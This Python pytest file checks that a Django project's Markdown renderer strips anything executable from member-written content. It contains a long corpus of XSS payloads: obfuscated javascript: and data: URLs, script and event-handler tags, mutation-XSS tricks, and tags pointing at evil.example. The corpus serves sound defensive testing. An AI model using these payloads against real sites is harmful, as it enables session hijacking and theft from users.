"""Member-written Markdown is rendered to HTML that cannot run anything (network/markdown.py).

The hostile corpus is checked by parsing the output, not by looking for strings: every tag, attribute and
URL scheme that comes out must be on the allowlist.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import unquote

import pytest
from django.forms import modelform_factory

from network.markdown import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    ALLOWED_URL_SCHEMES,
    html_sanitise,
    markdown_render,
)
from tests.testapp.models import Item

SCRIPT_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106&#0000097vascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "java&#x09;script:alert(1)",
    "java&#10;script:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java%09script:alert(1)",
    "java%0Ascript:alert(1)",
    "%6A%61%76%61script:alert(1)",
    "javascript%3Aalert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "data:image/png;base64,iVBORw0KGgo=",
    "file:///etc/passwd",
]

URL_FORMS = [
    "[click]({url})",
    "[click](<{url}>)",
    '[click]({url} "title")',
    "![picture]({url})",
    "[![picture]({url})]({url})",
    "<{url}>",
    "[click][ref]\n\n[ref]: {url}",
    "[ref]\n\n[ref]: <{url}>",
    "![picture][img]\n\n[img]: {url}",
]

RAW_HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example/"><input name=password><button>Go</button></form>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="position:fixed;inset:0">overlay</div>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style><img src=x onerror=alert(1)></style>",
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<details open ontoggle="alert(1)">x</details>',
    "<!--<img src=x onerror=alert(1)>-->",
    '<a href="https://ok.example/" onclick="alert(1)" style="color:red" target="_top">x</a>',
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
]

MARKDOWN_TRICKS = [
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    '[x](https://ok.example/"onmouseover="alert(1))',
    '[x](https://ok.example/ "title\\" onmouseover=\\"alert(1)")',
    "[<img src=x onerror=alert(1)>](https://ok.example/)",
    "**<script>**alert(1)**</script>**",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "> <iframe src=javascript:alert(1)>",
    "www.example.org/<script>alert(1)</script>",
    'https://ok.example/?q="><script>alert(1)</script>',
]

CORPUS = (
    [form.format(url=url) for form in URL_FORMS for url in SCRIPT_URLS]
    + RAW_HTML
    + MARKDOWN_TRICKS
    + [f"Hi {html}" for html in RAW_HTML]
)

_IGNORED_IN_URLS = re.compile(r"[\x00-\x20\x7f]+")
_SCHEME = re.compile(r"^([a-z][a-z0-9+.-]*):")


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector.elements


def text(html: str) -> str:
    parser = HTMLParser(convert_charrefs=True)
    chunks: list[str] = []
    parser.handle_data = chunks.append  # type: ignore[method-assign]
    parser.feed(html)
    parser.close()
    return "".join(chunks)


def url_scheme(url: str) -> str | None:
    """The scheme a browser (or a decoding mail client) could see: entities are already decoded by the
    parser; blanks and controls are removed anywhere, percent-escapes decoded."""
    match = _SCHEME.match(_IGNORED_IN_URLS.sub("", unquote(url)).lower())
    return match.group(1) if match else None


def assert_harmless(html: str) -> None:
    for tag, attrs in elements(html):
        assert tag in ALLOWED_TAGS, (tag, html)
        for name, value in attrs.items():
            allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
            assert name in allowed, (tag, name, html)
            if name == "href":
                assert url_scheme(value or "") in ALLOWED_URL_SCHEMES | {None}, (value, html)
            if name == "rel":
                assert value == "nofollow ugc noopener"


@pytest.mark.parametrize("source", CORPUS)
def test_nothing_executable_survives(source):
    html = markdown_render(source)
    assert_harmless(html)
    # Stable under a second cleaning: what the sanitiser produced parses back to the same tree (mutation
    # XSS lives in the difference between how the sanitiser and the browser parse the same markup).
    again = html_sanitise(html)
    assert (elements(again), text(again)) == (elements(html), text(html))


def test_the_checker_itself_catches_what_it_must():
    for bad in [
        "<script>x</script>",
        '<a href="java&#x09;script:alert(1)">x</a>',
        '<a href="java%09script:alert(1)">x</a>',
        '<a href="https://ok.example/" onclick="x">x</a>',
        '<img src="https://ok.example/x.png">',
        '<p style="color:red">x</p>',
    ]:
        with pytest.raises(AssertionError):
            assert_harmless(bad)


def test_typed_html_is_shown_as_text():
    assert markdown_render("Use <b>bold</b>") == "<p>Use &lt;b&gt;bold&lt;/b&gt;</p>\n"


def test_links_are_kept_and_marked_as_user_content():
    html = markdown_render("See [the strategy](https://www.un.org/counterterrorism/) and www.unodc.org.")
    assert elements(html) == [
        ("p", {}),
        ("a", {"href": "https://www.un.org/counterterrorism/", "rel": "nofollow ugc noopener"}),
        ("a", {"href": "http://www.unodc.org", "rel": "nofollow ugc noopener"}),
    ]


def test_remote_images_become_links_and_are_never_loaded():
    html = markdown_render('![Workshop photo](https://tracker.example/p.png "Nairobi")')
    assert elements(html) == [
        ("p", {}),
        ("a", {"href": "https://tracker.example/p.png", "title": "Nairobi", "rel": "nofollow ugc noopener"}),
    ]
    assert "Workshop photo" in html


def test_headings_never_outrank_the_page_title():
    html = markdown_render("# One\n\n## Two\n\n### Three\n\nSetext\n======\n\n###### Six")
    assert [tag for tag, _ in elements(html)] == ["h3", "h4", "h5", "h3", "h6"]


def test_common_formatting_survives():
    source = "**bold** _em_ ~~gone~~ `code`\n\n- a\n- b\n\n3. c\n\n> quote\n\n| x | y |\n|--:|---|\n| 1 | 2 |"
    tags = [tag for tag, _ in elements(markdown_render(source))]
    for tag in ["strong", "em", "s", "code", "ul", "li", "ol", "blockquote", "table", "th", "td"]:
        assert tag in tags


def test_markdown_fields_give_an_editable_source_and_a_rendered_copy():
    form_class = modelform_factory(Item, fields="__all__")
    assert "body" in form_class.base_fields
    assert "body_html" not in form_class.base_fields
    assert str(Item._meta.get_field("body_html").verbose_name) == "body (HTML)"
